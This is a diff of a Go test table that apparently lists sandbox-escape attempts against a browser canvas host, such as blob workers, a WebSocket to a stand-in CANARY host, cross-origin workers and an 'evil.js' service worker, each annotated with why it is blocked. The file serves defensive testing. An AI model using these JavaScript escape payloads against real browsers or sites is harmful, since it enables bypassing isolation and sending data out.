@@ -233,7 +233,7 @@ var attacks = []attack{
 	{name: "blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`" + workerBody + "`])))")},
 	{name: "websocket of a blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://CANARY/')`])))")},
 	{name: "worker", page: js(`new Worker("/w.js")`), more: map[string]string{"w.js": workerBody}},
-	{name: "shared worker", page: js(`new SharedWorker("/w.js")`), more: map[string]string{"w.js": workerBody}},
+	{name: "shared worker", holds: "shared workers are refused, whatever they want", page: js(`new SharedWorker("/w.js")`), more: map[string]string{"w.js": workerBody}},
 	{name: "worker of another origin", holds: "browsers start workers from the same origin alone", page: js(`try{new Worker("http://CANARY/w.js")}catch{}`)},
 	{name: "our own script as a worker", holds: "our scripts want nothing from elsewhere", page: js(`new Worker("/.ahp/canvas.js",{type:"module"}); new Worker("/.ahp/sw.js")`)},
 	{name: "service worker of the canvas", holds: "the host gives no script but sw.js for one", page: js(`navigator.serviceWorker.register("/evil.js",{scope:"/evil/"}).catch(()=>{})`), more: map[string]string{"evil.js": workerBody}},
